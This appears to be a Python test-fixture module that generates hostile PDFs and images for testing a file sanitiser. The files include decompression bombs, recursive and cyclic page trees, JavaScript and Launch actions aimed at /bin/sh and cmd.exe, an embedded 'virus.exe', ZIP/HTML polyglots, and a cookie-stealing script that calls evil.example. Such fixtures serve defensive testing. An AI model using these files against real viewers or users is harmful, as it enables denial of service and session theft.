"""Hostile files: small ones that would become gigabytes, that act when opened, or that are two things."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

TOLD = b"Selma Hatip wrote this on MASHINE-7"  # what no copy may hold
PLACE = b"GPS 37.0662N 37.3833E"


def page_pdf(words: str = "told", box: tuple[float, ...] = (0, 0, 595, 842), **more: Any) -> pikepdf.Pdf:
    """A PDF of one page with words on it."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    drawing = f"BT /F1 24 Tf 72 700 Td ({words}) Tj ET".encode()
    page = Dictionary(
        Type=Name.Page,
        MediaBox=Array(box),
        Contents=pdf.make_stream(drawing),
        Resources=Dictionary(Font=Dictionary(F1=font)),
        **more,
    )
    pdf.pages.append(pikepdf.Page(pdf.make_indirect(page)))
    return pdf


def saved(pdf: pikepdf.Pdf, **how: Any) -> bytes:
    made = io.BytesIO()
    pdf.save(made, **how)
    return made.getvalue()


def photo(place: bytes = PLACE) -> bytes:
    """A JPEG in which a camera wrote where it was."""
    made, exif = io.BytesIO(), Image.Exif()
    exif[0x010E] = place.decode()
    Image.new("RGB", (60, 40), "red").save(made, "JPEG", exif=exif, comment=place)
    return made.getvalue()


def talkative() -> bytes:
    """A PDF that tells and acts in every way that we know of, with a photo that tells where it was taken."""
    pdf = page_pdf("told")
    page, script = pdf.pages[0].obj, String(f"app.alert('{TOLD.decode()}')")
    pdf.docinfo[Name.Author] = String(TOLD.decode())
    rdf = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
    told = f"<rdf:Description xmlns:dc='http://purl.org/dc/elements/1.1/' dc:source='{TOLD.decode()}'/>"
    xmp = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='{rdf}'>{told}</rdf:RDF></x:xmpmeta>"
    pdf.Root.Metadata = pdf.make_stream(xmp.encode(), Type=Name.Metadata, Subtype=Name.XML)
    action = Dictionary(S=Name.JavaScript, JS=script)
    launch = Dictionary(S=Name.Launch, F=Dictionary(F=String("/bin/sh")), Win=Dictionary(F=String("cmd.exe")))
    pdf.Root.OpenAction = action
    pdf.Root.AA = Dictionary(WC=action)
    file = pdf.make_stream(TOLD, Type=Name.EmbeddedFile)
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("virus.exe"), EF=Dictionary(F=file)))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(action)])),
        EmbeddedFiles=Dictionary(Names=Array([String("virus.exe"), spec])),
    )
    pdf.Root.AF = Array([spec])
    page.AA = Dictionary(O=launch)
    page.PieceInfo = Dictionary(App=Dictionary(Private=String(TOLD.decode())))
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("f"), V=String("FILLED"), A=action,
            Rect=Array([72, 600, 300, 630]), F=4, DA=String("/Helv 12 Tf 0 g"),
        )
    )  # fmt: skip # one field
    note = Dictionary(
        Type=Name.Annot, Subtype=Name.Text, Rect=Array([1, 1, 9, 9]), Contents=String(TOLD.decode())
    )
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([9, 9, 99, 99]), A=launch)
    attached = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([1, 1, 9, 9]), FS=spec)
    page.Annots = Array([field, *(pdf.make_indirect(one) for one in (note, link, attached))])
    helv = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), NeedAppearances=True, DR=Dictionary(Font=Dictionary(Helv=helv)),
        XFA=pdf.make_stream(b"<xdp>" + TOLD + b"</xdp>"),
    )  # fmt: skip # one form
    image = pdf.make_stream(
        photo(), Type=Name.XObject, Subtype=Name.Image, Width=60, Height=40, BitsPerComponent=8,
        ColorSpace=Name.DeviceRGB, Filter=Name.DCTDecode, Metadata=pdf.make_stream(TOLD),
    )  # fmt: skip # one picture
    page.Resources.XObject = Dictionary(Im1=image)
    page.Contents = Array([page.Contents, pdf.make_stream(b" q 200 0 0 150 72 300 cm /Im1 Do Q")])
    return saved(pdf)


def zeros(size: int) -> bytes:
    """As many empty bytes, packed (RFC 1950), made at once whatever their number: full flushes repeat."""
    block = 1 << 24
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(bytes(block)) + packer.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    rest = last.compress(bytes(size % block)) + last.flush()
    check = ((size % 65_521) << 16) | 1  # Adler-32 of nothing but zeros
    return b"\x78\xda" + one * (size // block) + rest + struct.pack(">I", check)


def flate_bomb(size: int = 3 << 30) -> bytes:
    """A drawing of gigabytes in a few megabytes, packed twice."""
    pdf = page_pdf()
    pdf.pages[0].obj.Contents = pikepdf.Stream(
        pdf, zlib.compress(zeros(size), 9), Filter=Array([Name.FlateDecode, Name.FlateDecode])
    )
    return saved(
        pdf,
        recompress_flate=False,
        compress_streams=False,
        stream_decode_level=pikepdf.StreamDecodeLevel.none,
    )


def deep_tree(depth: int = 5_000) -> bytes:
    """Pages below pages below pages."""
    parts = [b"%PDF-1.7\n"]
    at = [len(parts[0])]

    def put(number: int, body: bytes) -> None:
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
        at.append(at[-1] + len(parts[-1]))

    put(1, b"<</Type/Catalog/Pages 2 0 R>>")
    for number in range(2, depth + 2):
        put(number, b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (number + 1))
    put(depth + 2, b"<</Type/Page/MediaBox[0 0 9 9]/Parent %d 0 R>>" % (depth + 1))
    *begins, start = at
    count = depth + 3
    rows = b"".join(b"%010d 00000 n \n" % one for one in begins)
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n%s" % (count, rows))
    parts.append(b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (count, start))
    return b"".join(parts)


def round_tree() -> bytes:
    """Pages that are their own children."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 2147483647/Kids[2 0 R 2 0 R]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def nested(depth: int = 200_000) -> bytes:
    """Lists in lists in lists."""
    return saved(page_pdf()).replace(b"/Rotate 0", b"") + b"\n9 0 obj\n" + b"[" * depth + b"\nendobj\n"


def image_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A page with a picture of billions of points of one colour."""
    rows = zlib.compress(zeros(width * 3 * height), 9)
    pdf = page_pdf()
    image = pikepdf.Stream(
        pdf, rows, Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height, BitsPerComponent=8,
        ColorSpace=Name.DeviceRGB, Filter=Array([Name.FlateDecode, Name.FlateDecode]),
    )  # fmt: skip # one picture
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im1=image)
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q 500 0 0 500 10 10 cm /Im1 Do Q")
    return saved(
        pdf,
        recompress_flate=False,
        compress_streams=False,
        stream_decode_level=pikepdf.StreamDecodeLevel.none,
    )


def png(width: int, height: int, rows: bytes = b"") -> bytes:
    """A PNG that says it has so many points."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def painted(kind: str, width: int = 40, height: int = 20) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(made, kind)
    return made.getvalue()


def huge_jpeg() -> bytes:
    """A small photo that says it has 65,500 by 65,500 points (ITU-T T.81, B.2.2)."""
    made = bytearray(painted("JPEG"))
    at = made.index(b"\xff\xc0") + 5
    made[at : at + 4] = struct.pack(">HH", 65_500, 65_500)
    return bytes(made)


def zipped(name: str = "a.txt") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(name, TOLD)
    return made.getvalue()


HTML = b"<html><script>fetch('https://evil.example/'+document.cookie)</script></html>"


PDFS: tuple[str, ...] = (
    "acts", "huge page", "thin page", "page without size", "page of no numbers", "deep tree", "round tree",
    "nested", "flate bomb", "image bomb", "with ZIP", "with HTML", "cut off", "head alone", "noise",
    "password",
)  # fmt: skip # one list


def pdfs() -> dict[str, bytes]:
    """Everything that passes for a PDF, by what it tries."""
    good = saved(page_pdf())
    locked = pikepdf.Encryption(owner="o", user="u")
    made = {
        "acts": talkative(),
        "huge page": saved(page_pdf(box=(0, 0, 14_400_000, 14_400_000))),
        "thin page": saved(page_pdf(box=(0, 0, 1e9, 0.001))),
        "page without size": saved(page_pdf(box=(0, 0, 0, 0))),
        "page of no numbers": saved(page_pdf(box=(0, 0, 1, 1))).replace(b"[ 0 0 1 1 ]", b"[ (a) /b c ]"),
        "deep tree": deep_tree(),
        "round tree": round_tree(),
        "nested": nested(),
        "flate bomb": flate_bomb(),
        "image bomb": image_bomb(),
        "with ZIP": good + zipped(),
        "with HTML": good + HTML,
        "cut off": good[: len(good) // 2],
        "head alone": b"%PDF-1.7\n",
        "noise": b"%PDF-1.7\n" + bytes(range(256)) * 400,
        "password": saved(page_pdf(), encryption=locked),
    }
    assert tuple(made) == PDFS
    return made


IMAGES: tuple[str, ...] = (
    "PNG bomb", "PNG of many points", "JPEG bomb", "WebP cut off", "JPEG cut off", "head alone", "with ZIP",
    "with HTML",
)  # fmt: skip # one list


def images() -> dict[str, bytes]:
    """Everything that passes for a photo, by what it tries."""
    good = painted("JPEG")
    made = {
        "PNG bomb": png(60_000, 60_000, zeros(1 << 26)),
        "PNG of many points": png(2**31 - 1, 2**31 - 1),
        "JPEG bomb": huge_jpeg(),
        "WebP cut off": painted("WEBP", 400, 300)[:40],
        "JPEG cut off": good[:200],
        "head alone": b"\xff\xd8\xff\xe0",
        "with ZIP": good + zipped(),
        "with HTML": good + HTML,
    }
    assert tuple(made) == IMAGES
    return made
